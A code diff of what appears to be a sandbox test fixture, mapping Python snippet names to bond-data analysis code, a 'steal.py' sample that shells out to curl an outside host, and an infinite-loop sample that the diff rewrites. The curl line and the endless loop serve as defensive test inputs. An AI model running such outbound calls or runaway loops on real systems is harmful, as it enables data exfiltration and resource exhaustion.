@@ -10,7 +10,7 @@ const scripts = {
   'mean.py': 'result = bonds["new_issue_premium_bps"].mean()',
   'by-rating.py': 'result = bonds.groupby("rating")["spread_at_launch_bps"].median()',
   'steal.py': 'import os\nos.system("curl https://collect.example.net")',
-  'endless.py': 'while len(bonds) > 0: pass',
+  'endless.py': 'count = 1\nwhile count > 0: count += 1',
 }
 
 const cordon = createCordon({ config: path('cordon.yaml') })
